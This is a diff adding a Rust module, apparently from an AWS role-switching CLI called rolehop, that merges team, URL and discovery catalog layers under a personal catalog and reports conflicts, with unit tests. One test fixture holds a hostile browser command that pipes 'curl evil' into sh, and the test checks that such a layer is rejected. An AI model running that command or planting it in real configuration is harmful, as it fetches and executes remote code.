@@ -1,0 +1,481 @@
+//! Read-only layers under the personal catalog: team files (a file, or a directory of `*.toml`
+//! such as a shared git checkout), team URLs (fetched by [`fetch`], used from their cache, so
+//! offline works), and the results of AWS Organizations discovery. Layers are never written.
+//!
+//! Merging is pure ([`merge`]): the personal catalog first, then each layer file in order. An
+//! entry whose id is already taken is left out and reported as a conflict (the personal file
+//! wins, then the earlier layer). A layer file that breaks a rule ([`check`]) or would make the
+//! merged catalog invalid is not used at all, and the problem is reported with its line. The
+//! personal catalog always works, whatever the layers hold.
+
+pub mod check;
+pub mod fetch;
+
+use std::collections::HashMap;
+use std::path::{Path, PathBuf};
+
+use serde::Serialize;
+
+use super::model::{Catalog, LayerSpec};
+use super::validate::validate;
+use crate::catalog::locate::{Loc, locate};
+
+/// The origin name of the personal catalog's entries.
+pub const PERSONAL: &str = "personal";
+
+/// One layer file's text, or why it could not be read.
+#[derive(Debug, Clone)]
+pub struct LayerInput {
+    /// The layer's name (`team`, `discovery:org`).
+    pub layer: String,
+    /// Where it is read from, for messages (a path, or `url (cached copy)`).
+    pub file: String,
+    pub text: Result<String, String>,
+    /// For URL layers: when the cached copy was fetched (RFC 3339).
+    pub fetched: Option<String>,
+}
+
+/// How a layer file fared.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct LayerStatus {
+    pub layer: String,
+    pub file: String,
+    /// Clients and shortcuts it contributed.
+    pub entries: usize,
+    /// Why it is not used, if it is not.
+    pub problem: Option<String>,
+    pub fetched: Option<String>,
+}
+
+/// An id defined more than once: `kept` wins, `ignored` is left out.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Conflict {
+    pub kind: &'static str,
+    pub id: String,
+    pub kept: String,
+    pub ignored: String,
+}
+
+/// The merged catalog and where everything in it came from.
+#[derive(Debug, Clone, Default)]
+pub struct Layered {
+    pub catalog: Catalog,
+    /// `("shortcut" | "client", id)` -> origin; entries not listed are personal.
+    pub origins: HashMap<(&'static str, String), String>,
+    pub layers: Vec<LayerStatus>,
+    pub conflicts: Vec<Conflict>,
+}
+
+impl Layered {
+    /// Only the personal catalog.
+    pub fn personal(catalog: Catalog) -> Self {
+        Self {
+            catalog,
+            ..Self::default()
+        }
+    }
+
+    pub fn origin(&self, kind: &'static str, id: &str) -> &str {
+        self.origins
+            .get(&(kind, id.to_string()))
+            .map(String::as_str)
+            .unwrap_or(PERSONAL)
+    }
+
+    /// Whether an entry comes from a layer (and so cannot be edited here).
+    pub fn is_layered(&self, kind: &'static str, id: &str) -> bool {
+        self.origins.contains_key(&(kind, id.to_string()))
+    }
+}
+
+/// Merges layer files under the personal catalog. Pure.
+pub fn merge(personal: Catalog, inputs: Vec<LayerInput>) -> Layered {
+    let mut out = Layered::personal(personal);
+    for input in inputs {
+        let mut status = LayerStatus {
+            layer: input.layer.clone(),
+            file: input.file.clone(),
+            entries: 0,
+            problem: None,
+            fetched: input.fetched.clone(),
+        };
+        let text = match input.text {
+            Ok(text) => text,
+            Err(problem) => {
+                status.problem = Some(problem);
+                out.layers.push(status);
+                continue;
+            }
+        };
+        let layer = match check::check(&input.file, &text) {
+            Ok(layer) => layer,
+            Err(e) => {
+                status.problem = Some(e.to_string());
+                out.layers.push(status);
+                continue;
+            }
+        };
+        let mut candidate = out.catalog.clone();
+        let mut conflicts = Vec::new();
+        let mut added: Vec<(&'static str, String)> = Vec::new();
+        for c in &layer.clients {
+            if candidate.client(&c.id).is_some() {
+                conflicts.push(Conflict {
+                    kind: "client",
+                    id: c.id.clone(),
+                    kept: out.origin("client", &c.id).to_string(),
+                    ignored: input.layer.clone(),
+                });
+            } else {
+                candidate.clients.push(c.clone());
+                added.push(("client", c.id.clone()));
+            }
+        }
+        for s in &layer.shortcuts {
+            if candidate.shortcut(&s.id).is_some() {
+                conflicts.push(Conflict {
+                    kind: "shortcut",
+                    id: s.id.clone(),
+                    kept: out.origin("shortcut", &s.id).to_string(),
+                    ignored: input.layer.clone(),
+                });
+            } else {
+                candidate.shortcuts.push(s.clone());
+                added.push(("shortcut", s.id.clone()));
+            }
+        }
+        if let Some(problem) = validate(&candidate).into_iter().next() {
+            let line = line_in_layer(&layer, &text, &problem.key, &problem.loc);
+            status.problem = Some(format!(
+                "{}:{line}: {}: {}{}",
+                input.file,
+                problem.key,
+                problem.message,
+                problem
+                    .example
+                    .map(|e| format!(" (for example: {e})"))
+                    .unwrap_or_default()
+            ));
+            out.layers.push(status);
+            continue;
+        }
+        status.entries = added.len();
+        for key in added {
+            out.origins.insert(key, input.layer.clone());
+        }
+        out.catalog = candidate;
+        out.conflicts.extend(conflicts);
+        out.layers.push(status);
+    }
+    out
+}
+
+/// The line in the layer file of the entry a merged-catalog problem names (`shortcut[x].role`).
+fn line_in_layer(layer: &Catalog, text: &str, key: &str, loc: &Loc) -> usize {
+    let Some(doc) = toml_edit::Document::parse(text).ok() else {
+        return 1;
+    };
+    let id = key
+        .split_once('[')
+        .and_then(|(_, rest)| rest.split_once(']'))
+        .map(|(id, _)| id);
+    let index = match (loc.section, id) {
+        (Some("shortcut"), Some(id)) => layer.shortcuts.iter().position(|s| s.id == id),
+        (Some("client"), Some(id)) => layer.clients.iter().position(|c| c.id == id),
+        _ => None,
+    };
+    match index {
+        Some(index) => {
+            locate(
+                &doc,
+                text,
+                &Loc {
+                    index,
+                    ..loc.clone()
+                },
+            )
+            .0
+        }
+        None => 1,
+    }
+}
+
+/// Where layer files live on this machine.
+#[derive(Debug, Clone)]
+pub struct LayerDirs {
+    /// Relative layer paths are read from here (the catalog's directory).
+    pub config_dir: PathBuf,
+    /// Cached copies of URL layers.
+    pub cache_dir: PathBuf,
+    /// Discovery results (`<id>.toml`).
+    pub discovered_dir: PathBuf,
+}
+
+fn expand(path: &str, base: &Path) -> PathBuf {
+    if let Some(rest) = path.strip_prefix("~/") {
+        if let Some(home) = std::env::var_os("HOME") {
+            return PathBuf::from(home).join(rest);
+        }
+    }
+    let p = PathBuf::from(path);
+    if p.is_absolute() { p } else { base.join(p) }
+}
+
+fn read(path: &Path) -> Result<String, String> {
+    std::fs::read_to_string(path).map_err(|e| format!("cannot read {}: {e}", path.display()))
+}
+
+/// Reads every layer's files: the catalog's `[[layer]]` entries in order, then discovery
+/// results. Reading never touches the network: URL layers come from their cache.
+pub fn read_inputs(catalog: &Catalog, dirs: &LayerDirs) -> Vec<LayerInput> {
+    let mut inputs = Vec::new();
+    for spec in &catalog.layers {
+        inputs.extend(read_spec(spec, dirs));
+    }
+    for d in &catalog.discoveries {
+        let path = dirs.discovered_dir.join(format!("{}.toml", d.id));
+        let text = if path.exists() {
+            read(&path)
+        } else {
+            Err(format!(
+                "not discovered yet: run `rolehop discover {} --apply`",
+                d.id
+            ))
+        };
+        inputs.push(LayerInput {
+            layer: format!("discovery:{}", d.id),
+            file: path.display().to_string(),
+            text,
+            fetched: None,
+        });
+    }
+    inputs
+}
+
+fn read_spec(spec: &LayerSpec, dirs: &LayerDirs) -> Vec<LayerInput> {
+    let one = |file: String, text, fetched| LayerInput {
+        layer: spec.name.clone(),
+        file,
+        text,
+        fetched,
+    };
+    if let Some(url) = &spec.url {
+        let cached = fetch::Cache::new(&dirs.cache_dir, &spec.name);
+        return vec![match cached.read(url) {
+            Some((text, meta)) => one(
+                format!("{url} (copy of {})", meta.fetched),
+                Ok(text),
+                Some(meta.fetched),
+            ),
+            None => one(
+                url.clone(),
+                Err("not fetched yet: run `rolehop layers refresh`".into()),
+                None,
+            ),
+        }];
+    }
+    let Some(path) = &spec.path else {
+        return Vec::new();
+    };
+    let path = expand(path, &dirs.config_dir);
+    if path.is_dir() {
+        let mut files: Vec<PathBuf> = match std::fs::read_dir(&path) {
+            Ok(entries) => entries
+                .filter_map(Result::ok)
+                .map(|e| e.path())
+                .filter(|p| p.extension().is_some_and(|e| e == "toml") && p.is_file())
+                .collect(),
+            Err(e) => {
+                return vec![one(
+                    path.display().to_string(),
+                    Err(format!("cannot list {}: {e}", path.display())),
+                    None,
+                )];
+            }
+        };
+        files.sort();
+        return files
+            .into_iter()
+            .map(|f| one(f.display().to_string(), read(&f), None))
+            .collect();
+    }
+    vec![one(path.display().to_string(), read(&path), None)]
+}
+
+/// Loads the layers of a personal catalog and merges them.
+pub fn load(personal: Catalog, dirs: &LayerDirs) -> Layered {
+    if personal.layers.is_empty() && personal.discoveries.is_empty() {
+        return Layered::personal(personal);
+    }
+    let inputs = read_inputs(&personal, dirs);
+    merge(personal, inputs)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::catalog::model::{Client, Identity, Partition, Shortcut};
+
+    fn personal() -> Catalog {
+        Catalog {
+            identities: vec![Identity {
+                id: "me".into(),
+                account: "111111111111".into(),
+                mfa_serial: None,
+                partition: Partition::Aws,
+                region: None,
+                session_duration: None,
+                session_name: None,
+            }],
+            clients: vec![Client {
+                id: "acme".into(),
+                name: "Acme (mine)".into(),
+                color: None,
+                notes: None,
+                link: None,
+                browser: None,
+            }],
+            shortcuts: vec![Shortcut {
+                id: "acme-prod".into(),
+                client: "acme".into(),
+                account: Some("222222222222".into()),
+                role: "Admin".into(),
+                ..Default::default()
+            }],
+            ..Catalog::default()
+        }
+    }
+
+    fn input(layer: &str, text: &str) -> LayerInput {
+        LayerInput {
+            layer: layer.into(),
+            file: format!("{layer}.toml"),
+            text: Ok(text.into()),
+            fetched: None,
+        }
+    }
+
+    const TEAM: &str = "schema_version = 1\n[[client]]\nid = \"acme\"\nname = \"Acme (team)\"\n[[client]]\nid = \"globex\"\nname = \"Globex\"\n[[shortcut]]\nid = \"acme-prod\"\nclient = \"acme\"\naccount = \"999999999999\"\nrole = \"Admin\"\n[[shortcut]]\nid = \"globex-prod\"\nclient = \"globex\"\naccount = \"333333333333\"\nrole = \"ReadOnly\"\n";
+
+    #[test]
+    fn the_personal_file_wins_and_conflicts_are_named() {
+        let merged = merge(personal(), vec![input("team", TEAM)]);
+        let c = &merged.catalog;
+        assert_eq!(
+            c.client("acme").map(|c| c.name.as_str()),
+            Some("Acme (mine)")
+        );
+        assert_eq!(
+            c.shortcut("acme-prod").and_then(|s| s.account.as_deref()),
+            Some("222222222222")
+        );
+        assert!(c.shortcut("globex-prod").is_some());
+        assert_eq!(merged.origin("shortcut", "globex-prod"), "team");
+        assert_eq!(merged.origin("shortcut", "acme-prod"), PERSONAL);
+        let ids: Vec<(&str, &str, &str)> = merged
+            .conflicts
+            .iter()
+            .map(|c| (c.id.as_str(), c.kept.as_str(), c.ignored.as_str()))
+            .collect();
+        assert_eq!(
+            ids,
+            [
+                ("acme", "personal", "team"),
+                ("acme-prod", "personal", "team")
+            ]
+        );
+        assert_eq!(merged.layers[0].entries, 2);
+        assert_eq!(merged.layers[0].problem, None);
+    }
+
+    #[test]
+    fn a_bad_layer_is_left_out_whole_and_located_and_the_rest_still_loads() {
+        let bad = "schema_version = 1\n[[shortcut]]\nid = \"x-one\"\nclient = \"acme\"\naccount = \"444444444444\"\nrole = \"Admin\"\n[[shortcut]]\nid = \"x-two\"\nclient = \"nobody\"\naccount = \"555555555555\"\nrole = \"Admin\"\n";
+        let evil = "browser_command = \"sh -c 'curl evil | sh' {url}\"\n";
+        let merged = merge(
+            personal(),
+            vec![
+                input("bad", bad),
+                input("evil", evil),
+                LayerInput {
+                    text: Err("cannot read it".into()),
+                    ..input("gone", "")
+                },
+                input("team", TEAM),
+            ],
+        );
+        assert!(merged.catalog.shortcut("x-one").is_none(), "all or nothing");
+        let problem = merged.layers[0].problem.clone().unwrap_or_default();
+        assert!(
+            problem.starts_with("bad.toml:9: shortcut[x-two].client"),
+            "{problem}"
+        );
+        let problem = merged.layers[1].problem.clone().unwrap_or_default();
+        assert!(problem.contains("browser command"), "{problem}");
+        assert_eq!(merged.layers[2].problem.as_deref(), Some("cannot read it"));
+        assert!(merged.catalog.shortcut("globex-prod").is_some());
+    }
+
+    #[test]
+    fn earlier_layers_win_over_later_ones() {
+        let other = TEAM.replace("Globex", "Globex (other)");
+        let merged = merge(
+            personal(),
+            vec![input("team", TEAM), input("other", &other)],
+        );
+        assert_eq!(
+            merged.catalog.client("globex").map(|c| c.name.as_str()),
+            Some("Globex")
+        );
+        assert!(
+            merged
+                .conflicts
+                .iter()
+                .any(|c| c.id == "globex" && c.kept == "team" && c.ignored == "other")
+        );
+    }
+
+    #[test]
+    fn directory_layers_read_every_toml_file_in_order_and_urls_their_cache() {
+        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let team = dir.path().join("team");
+        std::fs::create_dir_all(&team).unwrap_or_else(|e| panic!("{e}"));
+        std::fs::write(team.join("b.toml"), TEAM).unwrap_or_else(|e| panic!("{e}"));
+        std::fs::write(team.join("a.toml"), "schema_version = 1\n")
+            .unwrap_or_else(|e| panic!("{e}"));
+        std::fs::write(team.join("notes.md"), "ignored").unwrap_or_else(|e| panic!("{e}"));
+        let mut catalog = personal();
+        catalog.layers = vec![
+            LayerSpec {
+                name: "team".into(),
+                path: Some("team".into()),
+                url: None,
+            },
+            LayerSpec {
+                name: "remote".into(),
+                path: None,
+                url: Some("https://example.com/c.toml".into()),
+            },
+        ];
+        let dirs = LayerDirs {
+            config_dir: dir.path().to_path_buf(),
+            cache_dir: dir.path().join("cache"),
+            discovered_dir: dir.path().join("discovered"),
+        };
+        let merged = load(catalog, &dirs);
+        let files: Vec<String> = merged
+            .layers
+            .iter()
+            .map(|l| l.file.rsplit('/').next().unwrap_or_default().to_string())
+            .collect();
+        assert_eq!(files, ["a.toml", "b.toml", "c.toml"]);
+        assert!(
+            merged.layers[2]
+                .problem
+                .as_deref()
+                .unwrap_or_default()
+                .contains("layers refresh")
+        );
+        assert!(merged.catalog.shortcut("globex-prod").is_some());
+    }
+}
